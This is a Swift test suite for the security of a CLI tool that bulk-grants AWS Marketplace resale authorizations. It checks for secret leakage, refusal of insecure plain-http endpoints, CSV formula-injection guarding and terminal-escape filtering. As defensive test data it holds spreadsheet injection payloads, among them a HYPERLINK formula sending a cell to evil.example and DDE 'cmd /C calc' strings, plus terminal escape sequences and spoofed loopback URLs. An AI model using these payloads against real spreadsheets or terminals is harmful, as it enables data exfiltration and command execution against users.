import Foundation
import Testing
import TestSupport

/// Security promises of the real `bulkrunner` against `bulkrunner emulator` over loopback:
/// - no secret key or session token in any output, log (text or JSON), journal, job record or
///   results file — success, row failures, a refused signature, the raw `api` commands;
/// - signed requests to a plain-http endpoint that is not this machine are refused (69), also
///   when the URL tries to look like loopback;
/// - every cell of every CSV the tool writes (results, export) is spreadsheet-safe, whatever
///   the input cells and the messages that echo them — and a guarded cell fed back to `retry`
///   is sent as the user wrote it, not with the guard's apostrophe;
/// - no terminal escape sequence from a cell reaches standard output or error.
@Suite("reliability: security")
struct ReliabilitySecurityTests {
    static let accessKey = "AKIDRELIABILITYTEST"
    static let secret = "SeCrEtCaNaRy/ReliabilityTest+0123456789abcdefXYZ"
    static let wrongSecret = "WrOnGsEcReTcAnArY/abcdef0123456789+abcdefXYZ"
    static let token = "SeSsIoNtOkEnCaNaRy/IQoJb3JpZ2luX2VjEHcaCXVzLWVhc3QtMSJHMEUCIQD+abc="

    static func environment(home: URL, secret: String = secret, token: String? = token) -> [String: String] {
        var environment = [
            "HOME": home.path, "AWS_ACCESS_KEY_ID": accessKey, "AWS_SECRET_ACCESS_KEY": secret, "AWS_REGION": "us-east-1",
            "AWS_EC2_METADATA_DISABLED": "true", "AWS_CONFIG_FILE": home.appendingPathComponent("config").path,
            "AWS_SHARED_CREDENTIALS_FILE": home.appendingPathComponent("credentials").path,
        ]
        if let token { environment["AWS_SESSION_TOKEN"] = token }
        return environment
    }

    static func run(_ arguments: [String], in dir: URL, environment: [String: String], timeout: TimeInterval = 120) async throws -> ProcessResult {
        let binary = try #require(BuiltExecutable.url(), "bulkrunner is not built beside the tests")
        return try await reliabilityOffThePool {
            try runProcess(binary, arguments, environment: environment, stdin: Data(), currentDirectory: dir, timeout: timeout)
        }
    }

    // MARK: Secrets

    @Test("no secret key or session token in any output, log, journal or results file")
    func secretsNeverWritten() async throws {
        let dir = try TemporaryDirectory(prefix: "bulkrunner-secrets")
        defer { dir.remove() }
        let emulator = try ReliabilityEmulator(["--access-key", Self.accessKey, "--secret-key", Self.secret], logIn: dir.url)
        defer { emulator.stop() }
        let work = dir.path("work")
        try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
        try Data("""
            PRODUCT_ID,NAME,RESELLER_ACCOUNT_ID,DIMENSION_KEY,PRICE
            prod-1111111111111,Secret Test A,123456789012,BasicService,10.00
            prod-1111111111111,Secret Test B,900000000001,BasicService,10.00
            prod-9999999999999,Secret Test C,234567890123,BasicService,10.00
            prod-1111111111111,Secret Test D,12345678901,BasicService,10.00

            """.utf8).write(to: work.appendingPathComponent("partners.csv"))
        let home = dir.path("home")
        // The emulator verifies signatures but knows no session tokens (it answers a request that
        // carries one with UnrecognizedClientException): successful runs sign with the secret alone;
        // the token is sent, and refused, on the error paths.
        let good = Self.environment(home: home, token: nil)
        let bad = Self.environment(home: home, secret: Self.wrongSecret)
        let withToken = Self.environment(home: home)
        let noToken = Self.environment(home: home, secret: Self.wrongSecret, token: nil)
        let url = emulator.url
        let runs: [(String, [String], [String: String])] = [
            ("grant, text log", ["grant", "partners.csv", "--endpoint-url", url], good),
            ("grant, JSON log", ["grant", "partners.csv", "--endpoint-url", url, "--log-format", "json", "--output", "json.csv"], good),
            ("retry", ["retry", "partners.results.csv", "--endpoint-url", url], good),
            ("status", ["status", "partners.results.csv", "--endpoint-url", url], good),
            ("a session token (refused)", ["grant", "partners.csv", "--endpoint-url", url, "--output", "token.csv"], withToken),
            ("a session token (refused), JSON log", ["grant", "partners.csv", "--endpoint-url", url, "--output", "tokenjson.csv",
                                                     "--log-format", "json"], withToken),
            ("api with a session token (refused)", ["api", "describe-entity", "--entity-id", "resaleauthz-1111111111111",
                                                    "--endpoint-url", url, "--max-attempts", "1"], withToken),
            ("wrong secret with a token", ["grant", "partners.csv", "--endpoint-url", url, "--output", "bad.csv"], bad),
            ("wrong secret, JSON log", ["grant", "partners.csv", "--endpoint-url", url, "--output", "badjson.csv", "--log-format", "json"], bad),
            ("wrong secret without a token (InvalidSignature)", ["grant", "partners.csv", "--endpoint-url", url, "--output", "sig.csv"], noToken),
            ("api list-entities", ["api", "list-entities", "--entity-type", "ResaleAuthorization", "--endpoint-url", url], good),
            ("api start-change-set refused", ["api", "start-change-set", "--input-json", #"{"Catalog":"AWSMarketplace","ChangeSet":[]}"#,
                                              "--endpoint-url", url, "--max-attempts", "1"], good),
            ("api with a bad signature", ["api", "list-entities", "--entity-type", "ResaleAuthorization", "--endpoint-url", url,
                                          "--max-attempts", "1"], noToken),
            ("export", ["export", "resale-authorizations", "--output", "export.csv", "--endpoint-url", url], good),
            ("dry run", ["grant", "partners.csv", "--dry-run", "--output", "dry.csv"], good),
        ]
        var leaks: [String] = []
        var outputs = ""
        for (label, arguments, environment) in runs {
            let result = try await Self.run(arguments, in: work, environment: environment)
            #expect(result.status < 128, "\(label) crashed: \(result.stderr.suffix(500))")
            outputs += result.stdout + result.stderr
            for (name, text) in [("stdout", result.stdout), ("stderr", result.stderr)] {
                leaks += Self.secretsIn(Data(text.utf8)).map { "\(label) \(name): \($0)" }
            }
        }
        // Every file the runs wrote: results, journals, job records, exports, temporaries, HOME.
        for relative in ReliabilityBadInputRunner.listFiles(dir.url) where !relative.hasPrefix("emulator") {
            var isDirectory: ObjCBool = false
            let path = dir.path(relative).path
            guard FileManager.default.fileExists(atPath: path, isDirectory: &isDirectory), !isDirectory.boolValue,
                  let data = FileManager.default.contents(atPath: path) else { continue }
            leaks += Self.secretsIn(data).map { "\(relative): \($0)" }
        }
        #expect(leaks.isEmpty, "secrets written: \(leaks)")
        // The runs did reach the service (so the scan covers real answers and real errors).
        #expect(outputs.contains("SUCCEEDED"))
        #expect(outputs.contains("INVALID_RESELLER_ACCOUNT"))
        #expect(outputs.contains("UnrecognizedClientException") || outputs.contains("InvalidSignatureException"))
        #expect(ReliabilityBadInputRunner.listFiles(work).contains("partners.results.csv.journal"))
    }

    /// The canaries (and pieces of them, and their percent-encoded forms) found in `data`.
    static func secretsIn(_ data: Data) -> [String] {
        let text = String(decoding: data, as: UTF8.self)
        var found: [String] = []
        for (name, value) in [("secret key", secret), ("wrong secret key", wrongSecret), ("session token", token)] {
            let encoded = value.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? value
            for form in [value, String(value.prefix(16)), String(value.suffix(16)), encoded] where text.contains(form) {
                found.append("\(name) (\(form.prefix(20))…)")
            }
        }
        return found
    }

    // MARK: Plain http

    static let insecureEndpoints = [
        "http://example.com", "HTTP://EXAMPLE.COM:80", "http://localhost.example.com", "http://127.0.0.1.nip.io",
        "http://2130706433", "http://0x7f.1", "http://127.1", " http://example.com",
        "http://127.0.0.1@example.com", "http://example.com#@127.0.0.1", "http://example.com\\@127.0.0.1",
    ]

    @Test("signed requests to a plain-http endpoint that is not this machine are refused", arguments: insecureEndpoints)
    func plainHTTPIsRefused(_ endpoint: String) async throws {
        let dir = try TemporaryDirectory(prefix: "bulkrunner-http")
        defer { dir.remove() }
        let result = try await Self.run(["api", "list-entities", "--entity-type", "ResaleAuthorization", "--endpoint-url", endpoint,
                                         "--max-attempts", "1"], in: dir.url, environment: Self.environment(home: dir.path("home")))
        #expect(result.status == 69, "\(endpoint): status \(result.status)")
        let refused = ["plain http", "not this machine", "user name or password", "query (?) or fragment"]
        #expect(refused.contains { result.stderr.contains($0) }, "\(endpoint) was not refused as insecure: \(result.stderr)")
        #expect(!result.stderr.contains("NetworkConnection"), "\(endpoint): a connection was attempted: \(result.stderr)")
    }

    /// `http://[::1]:PORT` passes the plain-http rule (it is this machine), but URLSession on
    /// Linux cannot send to a bracketed IPv6 address at all: refused before any attempt, saying
    /// to use 127.0.0.1 with the same port.
    @Test("an IPv6 loopback endpoint is refused up front on Linux, naming 127.0.0.1")
    func ipv6LoopbackEndpointIsRefusedWithTheWayOut() async throws {
        #if canImport(FoundationNetworking)
        let dir = try TemporaryDirectory(prefix: "bulkrunner-ipv6")
        defer { dir.remove() }
        let result = try await Self.run(["api", "list-entities", "--entity-type", "ResaleAuthorization", "--endpoint-url", "http://[::1]:4566",
                                         "--max-attempts", "3"], in: dir.url, environment: Self.environment(home: dir.path("home")))
        #expect(result.status == 69, "status \(result.status): \(result.stderr)")
        #expect(result.stderr.contains("http://127.0.0.1:4566"), "\(result.stderr)")
        #expect(!result.stderr.contains("attempt 1 failed"), "a request was attempted: \(result.stderr)")
        #endif
    }

    // MARK: Formula injection

    static let payloads = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1+1",
        "\t=1+1", "=cmd|' /C notepad'!'A1'", "+1-", "-", "@",
    ]

    @Test("every cell of every CSV the tool writes is spreadsheet-safe, and guarded cells keep their value")
    func resultsAreSpreadsheetSafe() async throws {
        let dir = try TemporaryDirectory(prefix: "bulkrunner-formula")
        defer { dir.remove() }
        let emulator = try ReliabilityEmulator([], logIn: dir.url)
        defer { emulator.stop() }
        let environment = Self.environment(home: dir.path("home"), secret: "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY", token: nil)
            .merging(["AWS_ACCESS_KEY_ID": "AKIDEXAMPLE"]) { $1 }
        let header = ["PRODUCT_ID", "NAME", "RESELLER_ACCOUNT_ID", "DIMENSION_KEY", "PRICE", "DESCRIPTION", "NOTES"]
        let valid = ["prod-1111111111111", "Formula Test", "", "BasicService", "10.00", "Plain description", "plain note"]
        var rows: [[String]] = []
        var reseller = 555_000_000_000
        for column in header.indices {
            for payload in Self.payloads {
                var row = valid
                reseller += 1
                row[2] = String(reseller)
                row[1] = "Formula \(rows.count)"
                row[column] = payload
                rows.append(row)
            }
        }
        // Names that start like a formula but pass every check: they succeed, and come back in results and export.
        for name in ["-Minus Resale", "+Plus Resale", "@Home Resale", "=Equals Resale"] {
            reseller += 1
            rows.append(["prod-1111111111111", name, String(reseller), "BasicService", "10.00", "=1+2", "@note"])
        }
        let input = dir.path("formulas.csv")
        try Data(ReliabilityFormulaCSV.text([header] + rows).utf8).write(to: input)

        let run = try await Self.run(["grant", "formulas.csv", "--endpoint-url", emulator.url], in: dir.url, environment: environment)
        #expect(run.status == 1, "status \(run.status): \(run.stderr.suffix(800))")
        let export = try await Self.run(["export", "resale-authorizations", "--output", "export.csv", "--endpoint-url", emulator.url],
                                        in: dir.url, environment: environment)
        #expect(export.status == 0, "export: \(export.stderr.suffix(500))")
        let dry = try await Self.run(["grant", "formulas.csv", "--dry-run", "--quiet", "--output", "dry.csv"], in: dir.url, environment: environment)
        #expect(dry.status == 1, "dry run: \(dry.stderr.suffix(500))")

        var unsafe: [String] = []
        var checkedCells = 0
        for file in ["formulas.results.csv", "dry.csv", "export.csv"] {
            let table = try #require(ReliabilityCSV.read(dir.path(file)), "\(file) was not written")
            for (r, row) in ([table.header] + table.rows).enumerated() {
                for (c, cell) in row.enumerated() {
                    checkedCells += 1
                    if ReliabilityFormulaCSV.runsAsFormula(cell) {
                        unsafe.append("\(file) line \(r + 1) column \(c + 1): \(cell.debugDescription)")
                    }
                }
            }
        }
        #expect(unsafe.isEmpty, "cells a spreadsheet would run (of \(checkedCells)): \(unsafe.prefix(20))")

        // Input cells come back unchanged but for the guard's apostrophe.
        let results = try #require(ReliabilityCSV.read(dir.path("formulas.results.csv")))
        var changed: [String] = []
        for (index, row) in rows.enumerated() where index < results.rows.count {
            for column in header.indices {
                let written = results.rows[index][column]
                let original = row[column]
                if written != original && written != "'" + original {
                    changed.append("row \(index + 2) \(header[column]): \(original.debugDescription) → \(written.debugDescription)")
                }
            }
        }
        #expect(results.rows.count == rows.count)
        #expect(changed.isEmpty, "input cells changed: \(changed.prefix(10))")
        let outcomes = Dictionary(grouping: results.rows.map { $0[header.count] }, by: { $0 }).mapValues(\.count)
        #expect((outcomes["SUCCEEDED"] ?? 0) >= 4, "outcomes \(outcomes)")
        #expect((outcomes["INVALID"] ?? 0) > 0, "outcomes \(outcomes)")
    }

    @Test("a guarded cell fed back to retry is sent as written, without the apostrophe")
    func guardedCellsRoundTrip() async throws {
        let dir = try TemporaryDirectory(prefix: "bulkrunner-roundtrip")
        defer { dir.remove() }
        let emulator = try ReliabilityEmulator([], logIn: dir.url)
        defer { emulator.stop() }
        let environment = Self.environment(home: dir.path("home"), secret: "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY", token: nil)
            .merging(["AWS_ACCESS_KEY_ID": "AKIDEXAMPLE"]) { $1 }
        // The unknown reseller (9…) fails the row; the name starts like a formula and is guarded in the results.
        try Data("""
            PRODUCT_ID,NAME,RESELLER_ACCOUNT_ID,DIMENSION_KEY,PRICE,DESCRIPTION
            prod-1111111111111,-Minus Resale,900000000777,BasicService,10.00,@note
            prod-1111111111111,@Home Resale,900000000778,BasicService,10.00,+plus

            """.utf8).write(to: dir.path("partners.csv"))
        let first = try await Self.run(["grant", "partners.csv", "--endpoint-url", emulator.url], in: dir.url, environment: environment)
        #expect(first.status == 1)
        // The user fixes the reseller ids in the results file, then retries.
        let resultsURL = dir.path("partners.results.csv")
        var text = try String(contentsOf: resultsURL, encoding: .utf8)
        #expect(text.contains("'-Minus Resale") && text.contains("'@Home Resale"), "names not guarded: \(text)")
        text = text.replacingOccurrences(of: "900000000777", with: "100000000777").replacingOccurrences(of: "900000000778", with: "100000000778")
        try Data(text.utf8).write(to: resultsURL)
        let retry = try await Self.run(["retry", "partners.results.csv", "--endpoint-url", emulator.url], in: dir.url, environment: environment)
        #expect(retry.status == 0, "retry: \(retry.stderr.suffix(800))")
        let results = try #require(ReliabilityCSV.read(resultsURL))
        let idColumn = try #require(results.header.firstIndex(of: "EntityId"))
        let expected = ["-Minus Resale", "@Home Resale"]
        for (row, name) in zip(results.rows, expected) {
            let describe = try await Self.run(["api", "describe-entity", "--entity-id", row[idColumn], "--endpoint-url", emulator.url],
                                              in: dir.url, environment: environment)
            #expect(describe.status == 0, "describe \(row[idColumn]): \(describe.stderr)")
            let object = try? JSONSerialization.jsonObject(with: Data(describe.stdout.utf8)) as? [String: Any]
            let details = object?["DetailsDocument"] as? [String: Any]
            #expect(details?["Name"] as? String == name, "the service holds \(String(describing: details?["Name"])) for \(name)")
        }
    }

    // MARK: Terminal escapes

    @Test("no terminal escape sequence from a cell reaches the terminal")
    func noTerminalEscapes() async throws {
        let dir = try TemporaryDirectory(prefix: "bulkrunner-escapes")
        defer { dir.remove() }
        let escape = "\u{1B}"
        try Data(ReliabilityFormulaCSV.text([
            ["PRODUCT_ID", "NAME", "RESELLER_ACCOUNT_ID", "DIMENSION_KEY", "PRICE", "EXPIRY_DATE"],
            ["prod-1111111111111", "Evil\(escape)]0;pwned\u{07}Name", "123456789012", "BasicService", "10.00", ""],
            ["prod-1111111111111", "Clear \(escape)[2J\(escape)[H", "234567890123", "BasicService", "10.00", ""],
            ["prod-1111111111111", "Fine", "34567890123\(escape)[31m", "BasicService", "10.00", ""],
            ["prod-1111111111111", "Fine too", "345678901234", "BasicService", "1\(escape)[8m0", "2031-13-01\(escape)[0m"],
        ]).utf8).write(to: dir.path("escapes.csv"))
        let environment = Self.environment(home: dir.path("home"))
        for arguments in [["grant", "escapes.csv", "--dry-run"], ["grant", "escapes.csv", "--dry-run", "--log-format", "json", "--output", "j.csv"],
                          ["grant", "escapes.csv", "--emulator", "--output", "e.csv"], ["inspect", "escapes.csv"],
                          ["inspect", "escapes.csv", "--json"]] {
            let result = try await Self.run(arguments, in: dir.url, environment: environment)
            #expect(result.status < 128)
            for (name, text) in [("stdout", result.stdout), ("stderr", result.stderr)] {
                let lines = text.split(separator: "\n").filter { $0.contains(escape) || $0.contains("\u{07}") }
                #expect(lines.isEmpty, "\(arguments.joined(separator: " ")) \(name) carries ESC/BEL: \(lines.prefix(3).map { $0.debugDescription })")
            }
        }
    }
}

/// Writing test CSVs and judging cells as a spreadsheet would.
enum ReliabilityFormulaCSV {
    static func text(_ rows: [[String]]) -> String {
        rows.map { row in
            row.map { cell in
                cell.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" })
                    ? "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : cell
            }.joined(separator: ",")
        }.joined(separator: "\r\n") + "\r\n"
    }

    /// Whether a spreadsheet opening the CSV would treat `cell` as a formula (OWASP "CSV
    /// Injection": a leading `=`, `+`, `-`, `@`, tab or CR), plain numbers such as `-2.5` aside.
    static func runsAsFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        switch first {
        case "=", "@", "\t", "\r": return true
        case "+", "-":
            let rest = cell.dropFirst()
            let number = rest.range(of: #"^[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$"#, options: .regularExpression) != nil
                || rest.range(of: #"^\.[0-9]+$"#, options: .regularExpression) != nil
            return !number
        default: return false
        }
    }
}

/// `bulkrunner emulator --port 0 …` as a subprocess for one test.
final class ReliabilityEmulator: @unchecked Sendable {
    let process = Process()
    let url: String

    init(_ arguments: [String], logIn dir: URL) throws {
        let binary = try #require(BuiltExecutable.url(), "bulkrunner is not built beside the tests")
        let log = dir.appendingPathComponent("emulator-\(UUID().uuidString.prefix(6)).log")
        FileManager.default.createFile(atPath: log.path, contents: nil)
        let handle = try FileHandle(forWritingTo: log)
        process.executableURL = binary
        process.arguments = ["emulator", "--port", "0", "--seed", "11", "--prepare-seconds", "0.1", "--apply-seconds", "0.1"] + arguments
        process.environment = ["PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin"]
        process.standardOutput = handle
        process.standardError = handle
        try process.run()
        var found: String?
        let deadline = Date().addingTimeInterval(30)
        while found == nil && Date() < deadline && process.isRunning {
            let text = (try? String(contentsOf: log, encoding: .utf8)) ?? ""
            if let range = text.range(of: #"http://127\.0\.0\.1:[0-9]+"#, options: .regularExpression) {
                found = String(text[range])
            } else {
                usleep(20_000)
            }
        }
        guard let found else {
            process.terminate()
            throw ReliabilityEmulatorError(log: (try? String(contentsOf: log, encoding: .utf8)) ?? "")
        }
        url = found
    }

    func stop() {
        if process.isRunning {
            process.terminate()
            process.waitUntilExit()
        }
    }

    deinit { stop() }
}

struct ReliabilityEmulatorError: Error, CustomStringConvertible {
    var log: String
    var description: String { "the emulator did not start: \(log)" }
}
